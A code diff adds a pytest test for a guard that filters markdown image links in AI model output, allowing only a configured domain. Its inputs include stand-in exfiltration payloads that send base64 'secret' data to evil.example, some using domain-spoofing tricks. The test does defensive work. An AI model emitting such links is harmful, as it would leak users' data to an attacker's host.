@@ -108,6 +108,23 @@ def test_a_broken_policy_is_named_with_place_and_guess(text, parts):
         assert part in message
 
 
+@pytest.mark.parametrize(
+    ("link", "passes"),
+    [
+        ("![x](https://example.org/p?d=c2VjcmV0c2VjcmV0)", True),
+        ("![x](//cdn.example.org/p?d=c2VjcmV0c2VjcmV0)", True),
+        ("![x](https://example.org.evil.example/p?d=c2VjcmV0)", False),
+        ("![x](https://example.org@evil.example/p?d=c2VjcmV0)", False),
+        ("![//example.org/](https://evil.example/p?d=c2VjcmV0)", False),
+        ('<img alt="//example.org" src="https://evil.example/?d=c2VjcmV0">', False),
+        ("![x](https://[evil/p?d=c2VjcmV0)", False),
+    ],
+)
+def test_links_to_allowed_domains_may_carry_data_and_no_others(link, passes):
+    own = policy("extends: balanced\nlinks: {allowed_domains: [example.org]}")
+    assert (Guard(own).inspect(link, origin="model").text == link) == passes
+
+
 def test_a_missing_file_is_a_policy_error(tmp_path):
     with pytest.raises(PolicyError, match=r"none\.yml: cannot be read"):
         load_policy(tmp_path / "none.yml")
